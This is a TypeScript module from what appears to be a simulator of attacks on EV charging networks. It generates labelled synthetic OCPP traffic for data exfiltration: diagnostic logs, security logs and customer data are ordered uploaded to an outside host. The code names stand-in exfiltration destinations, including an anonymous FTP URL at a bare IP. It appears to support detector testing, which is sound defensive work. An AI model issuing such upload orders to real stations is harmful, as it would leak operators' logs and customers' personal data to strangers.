/** `data-exfiltration`: logs and customers' data for strangers. */
import { MINUTE_MS, SECOND_MS, rfc3339, type WallMs } from "../../models/units.ts";
import type { Capture, TimedLine } from "../sim/capture.ts";
import { ACCEPTED } from "../sim/dialect.ts";
import { dialectOf } from "../sim/dialects.ts";
import type { Dice } from "../sim/dice.ts";
import { exchange, moment, truthOf, type Attack, type Attacks } from "./attack.ts";
import { joint } from "./joint.ts";
import { graded, gradedCount, percent } from "./strength.ts";
import { withLines, type Order } from "./wire.ts";

const OVER_TLS = "https://logs.operator-example.test/in/";
/** With a password in the address, as field tools do it. */
const IN_PLAIN = "ftp://anonymous:guest@203.0.113.66/in/";

/** An order and the upload that it brings about. */
function upload(capture: Capture, chance: Dice, at: WallMs, location: string): TimedLine[] {
  const dialect = dialectOf(capture.ocppVersion);
  const id = 700 + chance.int(100);
  const later = (seconds: number): WallMs => (at + seconds * SECOND_MS) as WallMs;
  return [
    ...exchange(capture, chance, at, "csms", dialect.uploadOrder(location, id), dialect.uploadReply()),
    ...exchange(capture, chance, later(2), "station", dialect.uploadStatus("Uploading", id), {}),
    ...exchange(capture, chance, later(30 + chance.int(60)), "station", dialect.uploadStatus("Uploaded", id), {}),
  ];
}

function throughout(before: Capture, name: string, lines: readonly TimedLine[]): ReturnType<Attack> {
  const from = Math.min(...lines.map(({ at }) => at)) as WallMs;
  const to = Math.max(...lines.map(({ at }) => at)) as WallMs;
  return { capture: withLines(before, lines), truth: [truthOf("data-exfiltration", name, before, { from, to })] };
}

const uploads = gradedCount(1, 3, 10);
const hostOf = (strength: number): string => (strength < 0.5 ? OVER_TLS : IN_PLAIN);

const logUpload: Attack = (before, chance, strength, window) => {
  const count = uploads(strength);
  const from = moment(before, chance, count * 3 * MINUTE_MS, window);
  return throughout(before, "log-upload", Array.from({ length: count }, (_, i) =>
    upload(before, chance, (from + i * 3 * MINUTE_MS) as WallMs, hostOf(strength))).flat());
};

const customers = gradedCount(1, 5, 30);

/** 2.0.1 asks for each customer's data (N09); 1.6 has them in its security log (whitepaper, edition 3: A01). */
function customerOrder(capture: Capture, at: WallMs, id: number): Order {
  if (capture.ocppVersion === "1.6") {
    const payload = { logType: "SecurityLog", requestId: id, log: { remoteLocation: OVER_TLS,
      oldestTimestamp: rfc3339((at - id * MINUTE_MS) as WallMs) } };
    return { message: { action: "GetLog", payload }, reply: { ...ACCEPTED, filename: `security-${id}.log` } };
  }
  const payload = { requestId: id, report: true, clear: false, customerIdentifier: `customer-${id}` };
  return { message: { action: "CustomerInformation", payload }, reply: ACCEPTED };
}

function told(capture: Capture, at: WallMs, id: number): Order["message"] {
  return capture.ocppVersion === "1.6"
    ? { action: "LogStatusNotification", payload: { status: "Uploaded", requestId: id } }
    : { action: "NotifyCustomerInformation", payload: { data: `${id} transactions`, tbc: false, seqNo: 0,
      generatedAt: rfc3339(at), requestId: id } };
}

const customerData: Attack = (before, chance, strength, window) => {
  const count = customers(strength);
  const from = moment(before, chance, count * 5 * SECOND_MS + MINUTE_MS, window);
  return throughout(before, "customer-data", Array.from({ length: count }, (_, i) => {
    const at = (from + i * 5 * SECOND_MS) as WallMs;
    const { message, reply } = customerOrder(before, at, 800 + i);
    const later = (at + 2 * SECOND_MS) as WallMs;
    return [...exchange(before, chance, at, "csms", message, reply),
      ...exchange(before, chance, later, "station", told(before, later, 800 + i), {})];
  }).flat());
};

const share = graded(0.3, 0.6, 1);

export const UPLOADS: Attacks = {
  "log-upload": {
    threat: "data-exfiltration", scope: "station", make: logUpload,
    does: "diagnostics are ordered to a stranger",
    amount: (strength) => `${uploads(strength)} uploads, ${hostOf(strength).startsWith("ftp")
      ? "by FTP to a bare address" : "over TLS to a name like the operator's"}`,
  },
  "customer-data": {
    threat: "data-exfiltration", scope: "station", make: customerData,
    does: "data of one customer after the other are asked for (2.0.1), or the security log goes to a stranger (1.6)",
    amount: (strength) => `${customers(strength)} requests, 5 s apart`,
  },
  "uploads-everywhere": {
    threat: "data-exfiltration", scope: "zone",
    does: "diagnostics of many stations go to one stranger within a quarter of an hour, one upload each",
    amount: (strength) => `${percent(share(strength))} of the stations`,
    make: joint((strength) => ({
      threat: "data-exfiltration", name: "uploads-everywhere", share: share(strength), spreadMs: 15 * MINUTE_MS,
      lengthMs: 2 * MINUTE_MS,
      act: (capture, chance, at) => ({ capture: withLines(capture, upload(capture, chance, at, OVER_TLS)) }),
    })),
  },
};
